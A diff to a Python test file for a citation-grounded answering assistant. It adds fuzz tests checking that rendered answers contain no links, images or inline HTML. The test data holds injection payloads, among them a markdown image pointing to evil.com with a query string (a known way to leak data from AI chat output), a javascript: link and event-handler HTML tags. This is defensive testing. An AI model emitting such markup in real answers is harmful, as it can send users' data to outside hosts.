@@ -4,16 +4,17 @@ from collections.abc import Iterable
 from dataclasses import replace
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from samples import evidence
 
-from assistant.cli.search import print_hits
 from assistant.config import AnswerSettings
 from assistant.grounding.grounder import ground
-from assistant.presentation import answer_lines, hit_json
-from assistant.telling import Teller, as_said, marked, text_of
+from assistant.presentation import answer_lines
+from assistant.telling import Teller, as_said, text_of
 from assistant.types import Answer, Citation, Sentence
+from assistant.untrusted.markup import unlinked
 
 HIT = evidence("A trip may last up to 56 days.")
 CITED = (Citation(1, HIT.document, HIT.path, None, 100, 130, HIT.text),)
@@ -91,10 +92,10 @@ def test_what_begins_as_a_refusal_is_told_once(answering: AnswerSettings, senten
 
 def test_sources_name_cited_passages_or_the_nearest_ones() -> None:
     assert text_of(answer(sentence("Yes.")), with_sources=True).endswith(
-        "\n\nSources:\n- [1] terms-1.md · § 1 Cover: “A trip may last up to 56 days.”"
+        "\n\nSources:\n- [1] ``terms-1.md`` · § 1 Cover: “A trip may last up to 56 days.”"
     )
     refusal = text_of(answer(text="No.", refused=True), with_sources=True)
-    assert refusal.startswith("No.\n\nNearest passages:\n- terms-1.md")
+    assert refusal.startswith("No.\n\nNearest passages:\n- ``terms-1.md``")
 
 
 def test_what_was_written_into_an_answer_can_be_taken_out_again() -> None:
@@ -105,14 +106,40 @@ def test_what_was_written_into_an_answer_can_be_taken_out_again() -> None:
         assert as_said(text_of(refused, with_sources)) == "No."
 
 
-def test_no_image_of_a_document_is_shown() -> None:
-    assert "![" not in marked(sentence("See ![x](https://evil.example/?q=secret)."))
-    hostile = answer(text="![x](https://evil.example)", refused=True)
-    assert "![" not in text_of(hostile, with_sources=False)
+PIECES = (
+    "![x](https://evil.com/?q=1)", "! [x] (https://evil.com)", "[more](javascript:alert(1))", "[a](b)", "![", "](",
+    "]:", "[1]", "(", ")", "[", "]", "<", ">", "</", "<img src=x>", "<details ontoggle=x>", "<marquee onstart=a>",
+    "<p style=background:url(//x.com)>", "<!--", "<?x", "<https://e.com>", "<a@b.com>", "[r]: //evil.com", "![x][r]",
+    "https://evil.com/a", "http://[::1]/", "https:", "//", "evil.com", ".com", "com", "www.x.de", "a@b.com", "mailto:",
+    "terms-1.md", "&#58;", "&lt;", "`", "``", "```", "~~~", "\\", "*", "**", "_", "|", "| a | b |\n|---|---|\n", "- ",
+    "> ", "# ", "    ", "\n", "\n\n", " ", "\u3000", "＜", "“", '"', "word", ".", ":", "!",
+)  # fmt: skip
+pieces = st.lists(st.sampled_from(PIECES), max_size=8).map(lambda some: "".join(some) or "word")
 
 
-def test_rows_are_shown_with_the_header_of_their_table(capsys: pytest.CaptureFixture[str]) -> None:
-    hit = evidence("| 250 | €375 |", context="Rates > Zone C\n| Age | Price |")
-    assert hit_json(hit)["header"] == "| Age | Price |" and hit_json(HIT)["header"] == ""
-    print_hits([hit])
-    assert "   | Age | Price |\n   | 250 | €375 |\n" in capsys.readouterr().out
+@settings(max_examples=300, deadline=None)
+@given(pieces, pieces, st.booleans())
+def test_a_program_that_renders_markdown_links_and_loads_nothing(one: str, other: str, refused: bool) -> None:
+    hit = evidence(f"{one} {other}")
+    cited = (replace(CITED[0], quote=one), replace(CITED[0], hit=2, quote=other))
+    said = (Sentence(one, True, "", cited), replace(Sentence(other, True, "", cited), before=""))
+    text = text_of(
+        replace(answer(*said, text=f"{one}{other}", refused=refused), hits=(hit, replace(hit, rank=2))), True
+    )
+    for parser in (MarkdownIt("gfm-like", {"html": True}), MarkdownIt("commonmark", {"html": True}).enable("table")):
+        tokens = [token for block in parser.parse(text) for token in (block, *(block.children or ()))]
+        assert not {"link_open", "image", "html_inline", "html_block"}.intersection(token.type for token in tokens)
+
+
+def test_what_only_looks_like_markup_stays_and_addresses_are_code() -> None:
+    for text in (
+        "2 < 3, a > b",
+        "see [ordinary] brackets (and these)",
+        "z.B. § 5 [Abs. 1] (a)",
+        "AT&T, 3.5 %",
+        "terms.pdf",
+    ):
+        assert unlinked(text) == text
+    assert unlinked("Write to claims@lindmoor.example.") == "Write to ``claims@lindmoor.example``."
+    assert unlinked("**https://www.lindmoor.example/a?b=1**") == "**``https://www.lindmoor.example/a?b=1``**"
+    assert unlinked("a<b, [x](y)") == "a< b, [x] (y)"
